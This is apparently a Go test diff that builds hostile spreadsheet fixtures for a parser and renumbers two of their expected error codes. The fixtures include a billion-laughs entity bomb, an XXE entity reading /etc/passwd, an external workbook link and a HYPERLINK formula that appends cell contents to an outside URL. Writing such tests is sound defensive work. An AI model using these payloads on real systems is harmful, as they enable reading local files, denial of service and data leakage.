@@ -87,8 +87,8 @@ func hostileBooks() []hostileBook {
 		return packed(byHand(b.String() + `</row>` + taro))
 	}
 	return []hostileBook{
-		{"billion-laughs.xlsx", "F139", "entities in entities: a billion characters for one cell", laughs},
-		{"external-entity.xlsx", "F139", "an entity that is a file of this machine", changed(sheet1, "<worksheet", `<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet`)},
+		{"billion-laughs.xlsx", "F333", "entities in entities: a billion characters for one cell", laughs},
+		{"external-entity.xlsx", "F333", "an entity that is a file of this machine", changed(sheet1, "<worksheet", `<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet`)},
 		{"external-link.xlsx", "F332", "a link to a workbook on another machine", changed("xl/_rels/workbook.xml.rels", "</Relationships>",
 			`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`)},
 		{"formula.xlsx", "F119", "a cell that a spreadsheet would work out, with an answer of the sender's choice beside it", rows(`<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="str"><f>HYPERLINK("http://example.invalid/"&amp;C2)</f><v>見本　太郎</v></c></row>`)},
